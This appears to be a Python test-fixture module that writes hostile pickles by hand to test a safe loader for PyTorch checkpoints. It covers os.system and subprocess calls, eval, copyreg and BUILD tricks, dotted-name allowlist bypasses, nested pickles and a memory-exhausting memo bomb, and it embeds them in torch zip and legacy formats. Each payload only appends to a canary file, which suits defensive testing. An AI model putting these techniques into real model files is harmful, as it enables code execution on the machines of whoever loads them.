"""Pickles that run something when Python's own unpickler reads them; written opcode by opcode, nothing is imported.

Every payload appends a line to a canary file, so whoever runs one leaves a trace.
"""

import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

__all__ = ["PICKLES", "as_legacy", "as_zip", "system"]

Payload = Callable[[Path], bytes]


def _text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _find(module: str, name: str) -> bytes:
    """STACK_GLOBAL, which also takes dotted names."""
    return _text(module) + _text(name) + b"\x93"


def _program(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def _command(canary: Path) -> str:
    return f"echo run >> {canary}"


def _source(canary: Path) -> str:
    return f"open({str(canary)!r}, 'a').write('run\\n')"


def system(canary: Path) -> bytes:
    """What every example of a hostile pickle does: GLOBAL os.system, REDUCE."""
    return b"\x80\x02cposix\nsystem\n(" + _text(_command(canary)) + b"tR."


def _popen(canary: Path) -> bytes:
    words = b"".join(map(_text, ("sh", "-c", _command(canary))))
    return _program(_find("subprocess", "check_output") + b"(" + words + b"l\x85R")


def _eval(canary: Path) -> bytes:
    return _program(_find("builtins", "eval") + _text(_source(canary)) + b"\x85R")


def _exec_of_python_2(canary: Path) -> bytes:
    return b"\x80\x00c__builtin__\neval\n(V" + _source(canary).encode() + b"\ntR."


def _inst(canary: Path) -> bytes:
    """INST calls without REDUCE."""
    return b"\x80\x00(V" + _command(canary).encode() + b"\niposix\nsystem\n."


def _obj(canary: Path) -> bytes:
    """OBJ too."""
    return _program(b"(" + _find("posix", "system") + _text(_command(canary)) + b"o")


def _newobj_ex(canary: Path) -> bytes:
    """NEWOBJ_EX makes a Popen."""
    arguments = b"(" + b"".join(map(_text, ("sh", "-c", _command(canary)))) + b"l\x85"
    return _program(_find("subprocess", "Popen") + arguments + b"}\x92")


def _newobj(canary: Path) -> bytes:
    """NEWOBJ of a lazy `map`, which BUILD-less code such as a tuple of it runs."""
    lazy = _find("builtins", "map") + _find("posix", "system") + _text(_command(canary)) + b"\x85\x86\x81"
    return _program(_find("builtins", "tuple") + lazy + b"\x85R")


def _dotted(canary: Path) -> bytes:
    """A dotted name goes through an innocent module."""
    return _program(_find("torch", "serialization.os.system") + _text(_command(canary)) + b"\x85R")


def _dotted_allowed(canary: Path) -> bytes:
    """A dotted name that begins with one that is allowed."""
    name = "_rebuild_tensor_v2.__globals__.__getitem__"
    return _program(_find("torch._utils", name) + _text(_command(canary)) + b"\x85R")


def _extension(canary: Path) -> bytes:
    """EXT1 looks a global up in copyreg's registry, which an earlier pickle of the file may have filled."""
    entry = _text("posix") + _text("system") + b"\x4b\x01\x87"
    fill = _find("copyreg", "add_extension") + entry + b"R0"
    return _program(fill + b"\x82\x01" + _text(_command(canary)) + b"\x85R")


def _reconstructor(canary: Path) -> bytes:
    """copyreg._reconstructor makes an object of any class; BUILD then calls its __setstate__."""
    arguments = _find("torch.package.package_importer", "PackageImporter") + _find("builtins", "object") + b"N\x87"
    run = _find("posix", "system") + _text(_command(canary)) + b"\x85R0"
    return _program(_find("copyreg", "_reconstructor") + arguments + b"R0" + run + b"N")


def _build_attributes(canary: Path) -> bytes:
    """BUILD sets attributes of a class: an allowed class learns a __reduce__ or __setstate__ of the file's choosing."""
    slots = b"}" + _text("__setstate__") + _find("posix", "system") + b"s"
    stub = _find("argparse", "Namespace") + b"N" + slots + b"\x86b0"
    return _program(stub + _find("argparse", "Namespace") + b")R" + _text(_command(canary)) + b"b")


def _nested(canary: Path) -> bytes:
    """A pickle within a pickle."""
    inner = system(canary)
    return _program(_find("pickle", "loads") + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R")


def _torch_load(canary: Path) -> bytes:
    """torch.load of bytes that are a pickle."""
    inner = system(canary)
    data = b"B" + struct.pack("<I", len(inner)) + inner
    return _program(_find("torch.storage", "_load_from_bytes") + data + b"\x85R")


def _getattr(canary: Path) -> bytes:
    module = _find("importlib", "import_module") + _text("os") + b"\x85R"
    function = _find("builtins", "getattr") + module + _text("system") + b"\x86R"
    return _program(function + _text(_command(canary)) + b"\x85R")


def _run_path(canary: Path) -> bytes:
    script = canary.with_suffix(".py")
    script.write_text(_source(canary), encoding="utf-8")
    return _program(_find("runpy", "run_path") + _text(str(script)) + b"\x85R")


def _after_the_tensors(canary: Path) -> bytes:
    """An honest dict, and the payload popped off the stack behind it."""
    honest = b"}" + _text("weight") + b"Ns"
    return _program(honest + _find("posix", "system") + _text(_command(canary)) + b"\x85R0")


def _persistent(canary: Path) -> bytes:
    """A storage whose type is a function."""
    storage = b"(" + _text("storage") + _find("posix", "system") + _text(_command(canary)) + _text("cpu") + b"K\x01tQ"
    return _program(storage + _find("posix", "system") + _text(_command(canary)) + b"\x85R0")


def _memo_bomb(canary: Path) -> bytes:
    """LONG_BINPUT at index 2^31 lets C's unpickler ask for tens of gigabytes; a payload follows."""
    return b"\x80\x04Nr\xff\xff\xff\x7f0" + _find("posix", "system") + _text(_command(canary)) + b"\x85R."


PICKLES: dict[str, Payload] = {
    "global-os-system": system,
    "subprocess": _popen,
    "eval": _eval,
    "python-2-eval": _exec_of_python_2,
    "opcode-INST": _inst,
    "opcode-OBJ": _obj,
    "opcode-NEWOBJ_EX": _newobj_ex,
    "opcode-NEWOBJ-map": _newobj,
    "opcode-EXT1": _extension,
    "dotted-name": _dotted,
    "dotted-allowed-name": _dotted_allowed,
    "copyreg-reconstructor": _reconstructor,
    "BUILD-on-a-class": _build_attributes,
    "pickle-in-pickle": _nested,
    "torch-load-in-pickle": _torch_load,
    "getattr-chain": _getattr,
    "runpy": _run_path,
    "payload-off-the-stack": _after_the_tensors,
    "persistent-id-of-a-function": _persistent,
    "memo-bomb": _memo_bomb,
}


def as_zip(program: bytes) -> bytes:
    """The payload where torch 1.6 and later keep their pickle, beside honest storages."""
    honest = io.BytesIO()
    torch.save({"weight": torch.arange(4.0)}, honest)
    result = io.BytesIO()
    with zipfile.ZipFile(honest) as source, zipfile.ZipFile(result, "w") as target:
        for name in source.namelist():
            target.writestr(name, program if name.endswith("data.pkl") else source.read(name))
    return result.getvalue()


def as_legacy(program: bytes) -> bytes:
    """The payload after the honest head of the format before torch 1.6."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    return b"".join(pickle.dumps(part, 2) for part in head) + program + pickle.dumps([], 2)
